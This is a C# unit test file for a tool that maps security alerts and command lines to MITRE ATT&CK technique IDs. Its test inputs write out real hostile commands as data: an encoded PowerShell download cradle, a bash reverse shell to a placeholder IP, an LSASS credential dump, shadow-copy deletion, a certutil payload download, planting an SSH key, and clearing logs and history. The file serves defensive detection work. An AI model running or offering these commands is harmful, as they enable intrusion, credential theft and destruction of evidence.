using System.Text;
using System.Text.Json;
using Verdict.Attack.Mapping;
using Verdict.Tests.Support;

namespace Verdict.Tests.Attack.Mapping;

public sealed class TechniqueMapperTests
{
    private static readonly Lazy<TechniqueMapper> Mini = new(() => new TechniqueMapper(AttackFixtures.Stix20));
    private static readonly Lazy<TechniqueMapper?> RealMapper = new(() => new TechniqueMapper(AttackFixtures.Real));

    private static TechniqueMapper Real() => RealMapper.Value ?? throw new InvalidOperationException();

    [Fact]
    public void An_encoded_PowerShell_download_cradle_is_PowerShell_first_with_its_signals()
    {
        var payload = Convert.ToBase64String(Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')"));
        var ranked = Mini.Value.Map(MappingInput.FromText($"powershell.exe -NoP -W Hidden -Enc {payload}"));

        Assert.Equal("T1059.001", ranked[0].Id);
        Assert.Equal("PowerShell", ranked[0].Name);
        Assert.Contains("PowerShell", ranked[0].Signals);
    }

    [Fact]
    public void A_technique_named_in_the_alert_tags_scores_as_certain()
    {
        var ranked = Mini.Value.Map(new MappingInput { Title = "Suspicious script", Tags = ["attack.execution", "attack.t1059.004"] });

        Assert.Equal("T1059.004", ranked[0].Id);
        Assert.Equal(1.0, ranked[0].Score);
        Assert.Contains("names T1059.004", ranked[0].Signals);
    }

    [Fact]
    public void Revoked_and_deprecated_techniques_are_never_proposed()
    {
        var ranked = Mini.Value.Map(new MappingInput { Tags = ["T1086", "T1064"], CommandLine = "cscript.exe payload.vbs" }, top: 10);

        Assert.DoesNotContain(ranked, t => t.Id is "T1086" or "T1064");
    }

    [Fact]
    public void Empty_input_maps_to_nothing() => Assert.Empty(Mini.Value.Map(MappingInput.FromText("   ")));

    [Theory]
    [InlineData(@"vssadmin.exe delete shadows /all /quiet", "T1490")]
    [InlineData(@"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full", "T1003.001")]
    [InlineData(@"schtasks /create /sc minute /mo 5 /tn ""Updater"" /tr ""C:\Users\Public\u.exe""", "T1053.005")]
    [InlineData(@"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d C:\ProgramData\u.exe", "T1547.001")]
    [InlineData(@"certutil.exe -urlcache -split -f http://198.51.100.4/a.exe C:\Users\Public\a.exe", "T1105")]
    [InlineData(@"wevtutil cl Security", "T1070.001")]
    [InlineData(@"nltest /domain_trusts /all_trusts", "T1482")]
    [InlineData(@"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "T1059.004")]
    [InlineData(@"echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys", "T1098.004")]
    [InlineData(@"history -c && rm -f ~/.bash_history", "T1070.003")]
    [InlineData(@"brute_force 45 failed logins from 185.220.101.34 in 7 minutes", "T1110.001")]
    public void Realistic_command_lines_rank_the_right_technique_first(string commandLine, string expected)
    {
        var mapper = RealMapper.Value!;
        Assert.Equal(expected, mapper.Map(MappingInput.FromText(commandLine))[0].Id);
    }

    /// <summary>
    /// The issue's bar on realistic attack command lines: the first-ranked parent technique right for at least 60%,
    /// the right one in the top five for at least 85%. The set was written independently of the rules.
    /// </summary>
    [Fact]
    public void On_the_labeled_command_line_set_top1_parent_is_at_least_60_and_top5_at_least_85_percent()
    {
        var mapper = Real();
        int n = 0, top1 = 0, top5 = 0;
        foreach (var line in File.ReadLines(TestData.Fixture(Path.Combine("attack", "command-lines.jsonl"))))
        {
            using var doc = JsonDocument.Parse(line);
            var expected = doc.RootElement.GetProperty("techniques").EnumerateArray().Select(t => t.GetString()!.Split('.')[0]).ToHashSet();
            var parents = mapper.Map(MappingInput.FromText(doc.RootElement.GetProperty("command_line").GetString()!), 10)
                .Select(t => t.ParentId).Distinct().Take(5).ToList();
            n++;
            if (parents.Count > 0 && expected.Contains(parents[0])) top1++;
            if (parents.Any(expected.Contains)) top5++;
        }
        Assert.Equal(200, n);
        Assert.True(top1 >= 0.60 * n, $"top-1 parent {top1}/{n}");
        Assert.True(top5 >= 0.85 * n, $"top-5 parent {top5}/{n}");
    }
}
